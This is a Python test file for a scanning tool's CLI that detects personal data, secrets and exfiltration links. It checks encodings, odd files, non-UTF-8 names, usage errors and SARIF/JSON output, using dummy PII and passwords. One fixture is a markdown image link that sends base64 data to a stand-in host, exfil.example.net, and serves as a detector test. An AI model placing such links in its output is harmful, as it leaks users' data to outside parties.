"""``ramparts scan`` through the real command: encodings, odd files and names, usage errors."""

from __future__ import annotations

import io
import json
import os
import pathlib
import subprocess
import threading
from typing import Any

import orjson
import pytest
from typer.testing import CliRunner, Result

from ramparts.cli import scan as scan_cli
from ramparts.cli.main import build_app
from ramparts.detectors.registry import default_registry
from ramparts.detectors.scanning_files import SourceScan, read_source
from ramparts.detectors.scanning_sarif import to_sarif
from support.gateway_process import RAMPARTS
from support.streams import FailsAfterHead

TEXT = 'Employee: José García\nSSN 123-45-6789\npassword = "Xk9#mQ2vLp7!zR4t"\n'
MAIL = "mail a@example.com\n"


def _scan(
    *args: str, cwd: pathlib.Path, stdin: bytes = b"", expect: int | None = None
) -> subprocess.CompletedProcess[bytes]:
    """The installed command in a process: for exit codes that ``main`` maps (errors: 2)."""
    env = {**os.environ, "COLUMNS": "250"}
    result = subprocess.run(
        [str(RAMPARTS), "scan", *args],
        input=stdin,
        capture_output=True,
        timeout=60,
        env=env,
        cwd=cwd,
    )
    if expect is not None:
        assert result.returncode == expect, (result.stdout + result.stderr).decode(errors="replace")
    return result


@pytest.fixture
def invoke(tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """``invoke(*args, stdin=b"", expect=0)``: the typer app in process, run in ``tmp_path``."""
    monkeypatch.chdir(tmp_path)

    def run(*args: str, stdin: bytes = b"", expect: int | None = None) -> Result:
        result = CliRunner().invoke(build_app(), ["scan", *args], input=stdin, terminal_width=250)
        if expect is not None:
            assert result.exit_code == expect, result.output + repr(result.exception)
        return result

    return run


def _results(result: Result) -> list[dict[str, Any]]:
    results: list[dict[str, Any]] = orjson.loads(result.stdout_bytes)["results"]  # strict JSON
    return results


def _places(entry: dict[str, Any]) -> list[tuple[Any, ...]]:
    keys = ("detector", "kind", "start", "end", "line", "column")
    return [tuple(finding[key] for key in keys) for finding in entry["findings"]]


def _location(result: dict[str, Any]) -> dict[str, Any]:
    location: dict[str, Any] = result["locations"][0]["physicalLocation"]
    return location


# --- encodings (3, 10) ----------------------------------------------------------

ENCODED = {
    "bom16le.txt": (b"\xff\xfe" + TEXT.encode("utf-16-le"), "utf-16-le"),
    "bom16be.txt": (b"\xfe\xff" + TEXT.encode("utf-16-be"), "utf-16-be"),
    "plain16le.txt": (TEXT.encode("utf-16-le"), "utf-16-le"),
    "plain16be.txt": (TEXT.encode("utf-16-be"), "utf-16-be"),
    "bom32le.txt": (TEXT.encode("utf-32"), "utf-32-le"),
    "bom8.txt": (b"\xef\xbb\xbf" + TEXT.encode(), "utf-8-sig"),
    "latin1.txt": (TEXT.encode("latin-1"), "cp1252"),
    "utf8.txt": (TEXT.encode(), "utf-8"),
}


def test_other_encodings_give_the_findings_of_the_utf8_text(
    invoke: Any, tmp_path: pathlib.Path
) -> None:
    for name, (data, _) in ENCODED.items():
        (tmp_path / name).write_bytes(data)
    entries = {entry["path"]: entry for entry in _results(invoke("-f", "json", ".", expect=1))}
    reference = entries["utf8.txt"]
    assert any(finding["detector"] == "person_name" for finding in reference["findings"])
    for name, (_, encoding) in ENCODED.items():
        entry = entries[name]
        assert "skipped" not in entry, name  # UTF-16 was skipped as binary, with exit 0
        assert entry["encoding"] == encoding
        # Same detectors, offsets, lines and columns: all count characters of decoded text.
        assert _places(entry) == _places(reference), name
    table = invoke(".", expect=1)
    assert "read latin1.txt as cp1252" in table.stdout
    assert "read plain16be.txt as utf-16-be" in table.stdout
    sarif = json.loads(invoke("-f", "sarif", "latin1.txt", "bom16le.txt").stdout)
    artifacts = sarif["runs"][0]["artifacts"]
    assert [artifact["encoding"] for artifact in artifacts] == ["windows-1252", "UTF-16LE"]


def test_a_utf8_bom_does_not_shift_line_1(invoke: Any, tmp_path: pathlib.Path) -> None:
    bom_mail = b"\xef\xbb\xbf" + MAIL.encode()
    (tmp_path / "bom.txt").write_bytes(bom_mail)
    result = invoke("-f", "sarif", "--only", "email", "bom.txt", "-", stdin=bom_mail, expect=1)
    regions = [_location(r)["region"] for r in json.loads(result.stdout)["runs"][0]["results"]]
    assert regions == [{"startLine": 1, "startColumn": 6}] * 2  # the file, then stdin
    [entry] = _results(invoke("-f", "json", "--only", "email", "-", stdin=bom_mail))
    assert (entry["findings"][0]["start"], entry["findings"][0]["column"]) == (5, 6)


def test_jsonl_line_1_may_start_with_a_utf8_bom(invoke: Any) -> None:
    stdin = b'\xef\xbb\xbf{"text": "a@example.com", "id": "x"}\n'
    result = invoke("--jsonl", "--only", "email", stdin=stdin, expect=1)
    [record] = [orjson.loads(line) for line in result.stdout_bytes.splitlines()]
    assert record["id"] == "x"
    assert record["findings"][0]["span"] == [0, 13]


# --- what is not a regular file (4, 11) -------------------------------------------


def test_a_fifo_in_a_walked_directory_is_skipped_with_a_note(
    invoke: Any, tmp_path: pathlib.Path
) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "a.txt").write_text("nothing here\n")
    os.mkfifo(tree / "pipe")
    # Run in a process with a timeout: the scan used to wait for a writer for ever.
    result = _scan("-f", "json", "tree", cwd=tmp_path, expect=0)
    entries = orjson.loads(result.stdout)["results"]
    assert [(entry["path"], entry.get("skipped")) for entry in entries] == [
        ("tree/a.txt", None),
        ("tree/pipe", "not a regular file (FIFO)"),
    ]


def test_a_fifo_named_on_the_command_line_is_read(invoke: Any, tmp_path: pathlib.Path) -> None:
    os.mkfifo(tmp_path / "pipe")

    def feed() -> None:
        with open(tmp_path / "pipe", "wb") as writer:  # waits for the scan to open it
            writer.write(MAIL.encode())

    writer = threading.Thread(target=feed, daemon=True)
    writer.start()
    # In a process with a timeout: opening the FIFO twice (to sniff, then read) hung.
    result = _scan("-f", "json", "--only", "email", "pipe", cwd=tmp_path, expect=1)
    [entry] = orjson.loads(result.stdout)["results"]
    writer.join(5)
    assert [finding["detector"] for finding in entry["findings"]] == ["email"]


def test_broken_and_looping_links_in_a_walked_directory_are_notes(
    invoke: Any, tmp_path: pathlib.Path
) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "a.txt").write_text("nothing here\n")
    (tree / "dangling").symlink_to("nonexistent")
    (tree / "loop").symlink_to("loop")
    entries = _results(invoke("-f", "json", "tree", expect=0))  # was exit 3, "no such file"
    assert {entry["path"]: entry.get("skipped") for entry in entries} == {
        "tree/a.txt": None,
        "tree/dangling": "broken symbolic link",
        "tree/loop": "symbolic link loop",
    }
    sarif = json.loads(invoke("-f", "sarif", "tree", expect=0).stdout)
    invocation = sarif["runs"][0]["invocations"][0]
    assert invocation["executionSuccessful"] is True
    assert {n["level"] for n in invocation["toolExecutionNotifications"]} == {"note"}


def test_a_named_broken_link_or_missing_path_is_still_an_error(
    invoke: Any, tmp_path: pathlib.Path
) -> None:
    (tmp_path / "dangling").symlink_to("nonexistent")
    entries = _results(invoke("-f", "json", "dangling", "missing.txt", expect=3))
    assert [entry["skipped"] for entry in entries] == [
        "no such file (broken symbolic link)",
        "no such file",
    ]


# --- names that are not UTF-8 (5) ------------------------------------------------


def test_a_file_name_that_is_not_utf8_in_every_format(invoke: Any, tmp_path: pathlib.Path) -> None:
    folder = os.path.join(os.fsencode(tmp_path), b"names")
    os.mkdir(folder)
    target = os.path.join(folder, b"caf\xe9.txt")
    with open(target, "wb") as handle:
        handle.write(MAIL.encode())
    absolute = os.fsdecode(target)
    # Was a UnicodeEncodeError, exit 1 (read as "findings").
    sarif = invoke("-f", "sarif", "--only", "email", "names", absolute, expect=1)
    uris = [
        _location(r)["artifactLocation"]["uri"]
        for r in json.loads(sarif.stdout)["runs"][0]["results"]
    ]
    assert uris[0] == "names/caf%E9.txt"  # the name's bytes, percent-encoded
    assert uris[1].startswith("file:///") and uris[1].endswith("/names/caf%E9.txt")
    [entry] = _results(invoke("-f", "json", "--only", "email", "names", expect=1))  # strict
    assert entry["path"] == "names/caf\\xe9.txt"
    table = invoke("--only", "email", "names", expect=1)
    assert "names/caf\\xe9.txt" in table.stdout


# --- usage errors (6, 7) ---------------------------------------------------------


def test_jsonl_with_paths_or_a_format_is_a_usage_error(invoke: Any, tmp_path: pathlib.Path) -> None:
    (tmp_path / "bad.jsonl").write_text('{"text": "a@example.com"}\n')
    result = _scan("--jsonl", "bad.jsonl", cwd=tmp_path, expect=2)  # scanned empty stdin, exit 0
    assert b"stdin only" in result.stderr
    result = _scan("--jsonl", "-f", "sarif", cwd=tmp_path, expect=2)
    assert b"--format" in result.stderr
    invoke("--jsonl", "-", "--only", "email", stdin=b'{"text": "a@example.com"}\n', expect=1)


def test_only_runs_the_named_output_detectors(invoke: Any, tmp_path: pathlib.Path) -> None:
    (tmp_path / "answer.md").write_text(
        "See ![x](https://exfil.example.net/p.png?d=c2VjcmV0IGRhdGEgaGVyZSBwbGVhc2U)\n"
    )
    result = invoke("-f", "json", "--only", "output.exfil_link", "answer.md", expect=1)
    [entry] = _results(result)
    assert {finding["detector"] for finding in entry["findings"]} == {"output.exfil_link"}


def test_selecting_no_detector_is_an_error(tmp_path: pathlib.Path) -> None:
    (tmp_path / "a.txt").write_text(MAIL)
    (tmp_path / "off.yaml").write_text("detectors:\n  email: false\n")
    for only in (",", ""):
        result = _scan("--only", only, "a.txt", cwd=tmp_path, expect=2)  # was exit 0
        assert b"--only" in result.stderr
    result = _scan("-c", "off.yaml", "--only", "email", "a.txt", cwd=tmp_path, expect=2)
    assert b"no detectors selected" in result.stderr


# --- SARIF details and JSON lines (13) ----------------------------------------------


def test_sarif_stdin_has_no_uri_and_keeps_the_argument_order(
    invoke: Any, tmp_path: pathlib.Path
) -> None:
    (tmp_path / "a.txt").write_text(MAIL)
    args = ("-f", "sarif", "--only", "email", "-", "a.txt", "missing.txt")
    result = invoke(*args, stdin=b"x b@example.com\n", expect=3)
    run = json.loads(result.stdout)["runs"][0]
    assert [_location(r)["artifactLocation"] for r in run["results"]] == [
        {"description": {"text": "standard input"}, "index": 0},
        {"uri": "a.txt", "index": 1},
    ]
    assert run["artifacts"][0]["roles"] == ["analysisTarget", "standardStream"]
    invocation = run["invocations"][0]
    assert invocation["executionSuccessful"] is False
    [notification] = invocation["toolExecutionNotifications"]
    assert notification["level"] == "error"  # was "note" on an unsuccessful run
    assert "missing.txt" in notification["message"]["text"]
    entries = _results(invoke("-f", "json", "--only", "email", "a.txt", "-", stdin=b"x"))
    assert [entry["path"] for entry in entries] == ["a.txt", "-"]


def test_jsonl_accepts_lone_surrogate_escapes(invoke: Any) -> None:
    lines = [
        json.dumps({"text": "\ud800 mail a@example.com", "id": "sur"}),
        json.dumps({"text": "mail b@example.com", "id": "\udc00x"}),
        '{"text": "\\ud800 x", "id": NaN}',  # still not JSON
    ]
    stdin = ("\n".join(lines) + "\n").encode()
    result = invoke("--jsonl", "--only", "email", stdin=stdin, expect=3)
    records = [json.loads(line) for line in result.stdout_bytes.splitlines()]
    assert records[0]["id"] == "sur"
    assert records[0]["findings"][0]["span"] == [7, 20]
    assert records[1]["id"] == "\udc00x"  # echoed as the escape it came in
    assert records[1]["verdict"] == "flagged"
    assert records[2] == {"id": None, "line": 3, "error": "line is not valid JSON"}


# --- a read error partway through a source ---------------------------------------------


def test_a_read_error_partway_is_reported_in_json_and_sarif() -> None:
    engine = scan_cli.load_engine(None, "email", b"key")

    def sources() -> list[SourceScan]:
        failing = read_source(engine, "bad.txt", FailsAfterHead(MAIL.encode()))  # type: ignore[arg-type]
        return [failing, read_source(engine, "good.txt", io.BytesIO(MAIL.encode()))]

    out = io.StringIO()
    levels, incomplete = scan_cli._stream_json(iter(sources()), out)  # used to raise OSError
    assert [str(level) for level in levels] == ["confidential"]
    assert incomplete
    bad, good = json.loads(out.getvalue())["results"]
    assert bad["skipped"] == "unreadable (Input/output error)"
    assert good["findings"] and "skipped" not in good
    sarif = to_sarif([source.result() for source in sources()], default_registry())
    invocation = sarif["runs"][0]["invocations"][0]
    assert invocation["executionSuccessful"] is False
    assert invocation["toolExecutionNotifications"][0]["level"] == "error"
